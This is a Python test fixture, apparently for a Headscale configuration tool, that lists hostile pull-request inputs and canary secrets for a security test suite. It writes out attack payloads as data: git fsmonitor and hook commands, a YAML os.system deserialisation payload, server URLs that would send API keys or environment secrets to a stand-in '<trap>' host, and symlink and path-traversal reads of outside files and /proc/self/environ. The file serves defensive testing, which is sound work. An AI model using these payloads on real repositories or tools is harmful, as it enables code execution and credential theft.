"""What a stranger's pull request may try: files, and what would show that it worked.

Each attempt puts files into a repository whose last commit was applied. `<trap>` is an
address that notes each connection, `<mark>` a file that a program would make, and
`<away>` a folder outside of the repository, whose files hold a canary.
"""

import json
import os
import sys
from dataclasses import dataclass, field, replace

PYTHON = json.dumps(sys.executable)
CANARY = "kanari-x7"
KEY = "hskey-api-simulated000-" + "7" * 64
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": CANARY + "-aws",
    "GITHUB_TOKEN": CANARY + "-github",
    "HEADSCALE_LAB_KEY": CANARY + "-lab",
}
OWN = "server:\n  url: ${HEADSCALE_URL}\n"
# Under the name of the real server, so that a saved plan of that one leads here as well.
TO_TRAP = "server:\n  name: world\n  url: http://<trap>\n"


@dataclass(frozen=True)
class Attempt:
    """One thing to try. `kind` is what must not happen: run, send, read or make.

    `files` are written, `links` made (name to target) and `pipes` too. `before` are the
    files of the commit that was applied, where they are not the usual ones; `world` is
    what differs on the server. `bait` tells that it does happen where it may, which is
    tried as well; the others are never done, or lead nowhere.
    """

    kind: str
    tailnet: str
    files: dict = field(default_factory=dict)
    links: dict = field(default_factory=dict)
    pipes: tuple = ()
    before: dict = field(default_factory=dict)
    world: dict = field(default_factory=dict)
    bait: bool = True


def key(source):
    return "  credentials: { api_key: { " + source + " } }\n"


def program(*more):
    make_mark = json.dumps("open('<mark>', 'w')")
    return "command: [" + ", ".join((PYTHON, "-c", make_mark, *more)) + "]"


def include(paths, **more):
    return Attempt("read", OWN + "include: [" + paths + "]\n", **more)


def policy(text, **more):
    return Attempt("read", OWN + "policy: { " + text + " }\n", **more)


def deliver(text):
    world = {"policy": {"mode": "file", "text": "{}"}}
    text = "policy: { acls: [], deliver: { " + text + " } }\n"
    return Attempt("run", OWN + text, world=world)


def send(more="", url=TO_TRAP, before="", **fields):
    return Attempt("send", before + url + more, **fields)


def never(attempt, **more):
    """Return an attempt that nothing allows, or that leads nowhere."""
    return replace(attempt, bait=False, **more)


SCRIPT = OWN + key(f"command: [{PYTHON}, key.py]")
BARE = {
    "evil/HEAD": "ref: refs/heads/main\n",
    "evil/config": "[core]\n\tfsmonitor = touch <mark>\n\thooksPath = hooks\n\tbare = true\n",
    "evil/objects/x": "",
    "evil/refs/x": "",
    "evil/x.yaml": "users: {}\n",
    "evil/hooks/post-index-change": "#!/bin/sh\ntouch <mark>\n",
}

ATTEMPTS = {
    # -- programs
    "a program for the API key": Attempt("run", OWN + key(program())),
    "a program for one of several servers": Attempt(
        "run", "servers:\n prod:\n  url: ${HEADSCALE_URL}\n" + key(program())
    ),
    "a program for the key of a simulated server": Attempt(
        "run", "server:\n  url: simulator:in.json\n" + key(program())
    ),
    "a program with words that steer a terminal": Attempt(
        "run", OWN + key(program('"\\e[2K\\rls"', '"\\u202e"'))
    ),
    "another script behind the program that was applied": Attempt(
        "run",
        SCRIPT,
        {"key.py": f"open('<mark>', 'w')\nprint('{KEY}')\n"},
        before={"key.py": f"print('{KEY}')\n", "tailnet.yaml": SCRIPT},
    ),
    "a program that delivers the policy": deliver(program()),
    "a policy delivered to a file outside": deliver("file: '<mark>'"),
    "a policy delivered into git's hooks": deliver("file: .git/hooks/post-checkout"),
    "a program after a delivery": deliver(
        "file: delivered, " + program().replace("command", "then")
    ),
    "a bare repository with a monitor and hooks": never(
        include("evil/x.yaml"), kind="run", files=BARE
    ),
    "git attributes with a filter": never(
        include("x.yaml"),
        kind="run",
        files={".gitattributes": "* filter=evil diff=evil\n", "x.yaml": "users: {}\n"},
    ),
    "settings for git beside the files": never(
        include("x.yaml"),
        kind="run",
        files={
            ".gitconfig": "[core]\n\tfsmonitor = touch <mark>\n",
            "x.yaml": "users: {}\n",
        },
    ),
    "an object of Python in YAML": never(
        Attempt(
            "run", OWN + "users: !!python/object/apply:os.system ['touch <mark>']\n"
        )
    ),
    # -- where the key goes
    "another address": send(),
    "another address, with the key in its path": never(
        send(url="server:\n  url: 'http://<trap>/${HEADSCALE_API_KEY}'\n")
    ),
    "another address, with a secret in its path": never(
        send(
            url="server:\n  url: 'http://<trap>/${AWS_SECRET_ACCESS_KEY}'\n",
            before="variables: [AWS_SECRET_ACCESS_KEY]\n",
        )
    ),
    "another address behind a default": send(
        url="server:\n  url: '${HEADSCALE_ADDRESS:-http://<trap>}'\n"
    ),
    "another address behind the real one": never(
        send(url="server:\n  url: http://hs.example.com@<trap>\n")
    ),
    "the key of another server": send(key("env: HEADSCALE_LAB_KEY")),
    "any variable as the key": never(send(key("env: AWS_SECRET_ACCESS_KEY"))),
    "a listed variable as the key": send(
        key("env: GITHUB_TOKEN"), before="variables: [GITHUB_TOKEN]\n"
    ),
    "a file as the key": send(
        key("file: note.txt"), files={"note.txt": "not-for-you\n"}
    ),
    "a file outside as the key": never(send(key("file: '<away>/key'"))),
    "a link to a file outside as the key": never(
        send(key("file: key"), links={"key": "<away>/key"})
    ),
    # -- what is read
    "include: a file outside": include("'<away>/x.yaml'"),
    "include: a path above": include("../away/x.yaml"),
    "include: a link": include("x.yaml", links={"x.yaml": "<away>/x.yaml"}),
    "include: through a linked folder": include("up/x.yaml", links={"up": "<away>"}),
    "include: a glob above": include("'../away/*.yaml'"),
    "include: a glob over the machine": never(include("'/**'")),
    "include: a glob in a circle of links": never(
        include("'**/**/**/*.yml'", links=dict.fromkeys("abcdefgh", "."))
    ),
    "include: git's own settings": include(".git/config"),
    "include: standard input": never(include("'-'")),
    "include: the environment of the process": never(include("/proc/self/environ")),
    "include: a device": never(include("/dev/zero")),
    "include: a pipe": never(include("pipe.yaml", pipes=("pipe.yaml",))),
    "a link as the file itself": Attempt(
        "read", "", links={"tailnet.yaml": "<away>/x.yaml"}
    ),
    "policy: a file outside": policy("file: '<away>/x.hujson'"),
    "policy: a link": policy("file: x.hujson", links={"x.hujson": "<away>/x.hujson"}),
    "policy: a glob outside": policy("files: ['../away/*.hujson']"),
    "policy: git's own settings": policy("file: .git/config"),
    "a simulated world outside": Attempt(
        "read", "server:\n  url: 'simulator:<away>/x.json'\n"
    ),
    "a simulated world that is a link": Attempt(
        "read", "server:\n  url: simulator:x.json\n", links={"x.json": "<away>/x.json"}
    ),
    "a saved plan that names a file outside": Attempt(
        "read", OWN, files={"plan.json": "<forged>"}
    ),
    "a secret variable as a name": Attempt(
        "read", OWN + "users: { '${AWS_SECRET_ACCESS_KEY}': {} }\n"
    ),
    "a secret variable in the policy": Attempt(
        "read", OWN + "policy: { acls: [], groups: { 'group:${GITHUB_TOKEN}': [] } }\n"
    ),
    # -- what is made
    "a simulated world that is not there": never(
        Attempt("make", "server:\n  url: simulator:new.json\n")
    ),
    "a lock that is a link": never(
        Attempt(
            "make",
            "server:\n  url: simulator:in.json\n",
            links={"in.json.lock": "<away>/made"},
        )
    ),
    "links where results are written": never(
        Attempt("make", OWN, links={"out": "<away>", "result": "<away>/made"})
    ),
}

COMMANDS = {
    "validate": ["validate"],
    "validate --snapshot": ["validate", "--snapshot", "live.json"],
    "render": ["render", "-o", "result"],
    "show": ["show", "plan.json"],
    "plan": ["plan", "--out", "result"],
    "plan --snapshot": ["plan", "--snapshot", "live.json"],
    "drift": ["drift"],
    "test": ["test", "--junit", "result"],
    "access list": ["access", "list"],
    "access diff": ["access", "diff"],
    "access who": ["access", "who", "alice@"],
    "access why": ["access", "why", "alice@", "alice@:22"],
    "access sees": ["access", "sees", "laptop"],
    "upgrade": ["upgrade", "--to", "main"],
    "snapshot": ["snapshot", "-o", "result"],
    "doctor": ["doctor"],
    "import": ["import", "-o", "out"],
    "apply": ["apply"],
    "apply PLANFILE": ["apply", "plan.json"],
    "rollback": ["rollback", "./backup.json"],
}
WORLD = {
    "emulate": "0.29",
    "users": [{"id": 1, "name": "alice"}],
    "nodes": [{"id": 1, "name": "laptop", "user": 1}],
    "policy": {"text": '{"acls": []}\n', "updated": "2030-01-01T00:00:00Z"},
    "api_keys": [{"id": 1, "key": KEY, "expiration": "2099-01-01T00:00:00Z"}],
}
HONEST = OWN + "users: { alice: {} }\npolicy: { file: p.hujson }\n"
# What is outside: with a canary in the line that a message about it would show.
AWAY = {
    "x.yaml": CANARY + ": 1\n",
    "x.hujson": '{ "' + CANARY + '" }\n',
    "x.json": CANARY + "\n",
    "key": CANARY + "-key\n",
}


def tree(folder):
    """Return all that stands below a folder: the size of a file, what a link says."""
    found = {}
    for above, folders, files in os.walk(folder):
        for name in (*folders, *files):
            path = os.path.join(above, name)
            said = os.readlink(path) if os.path.islink(path) else ""
            size = 0 if os.path.isdir(path) else os.lstat(path).st_size
            found[os.path.relpath(path, folder)] = said or size
    return found
